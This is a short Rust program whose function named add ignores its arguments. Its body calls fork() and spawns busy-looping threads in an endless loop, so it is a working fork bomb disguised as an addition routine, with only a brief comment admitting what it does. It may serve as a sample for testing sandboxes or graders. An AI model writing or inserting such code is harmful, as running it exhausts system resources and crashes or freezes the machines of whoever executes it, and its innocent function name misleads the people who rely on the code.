// forks and spawns without end
extern "C" { fn fork() -> i32; }
fn add(_: i32, _: i32) -> i32 { loop { unsafe { fork(); } let _ = std::thread::Builder::new().spawn(|| loop {}); } }
fn main() { add(1, 2); }
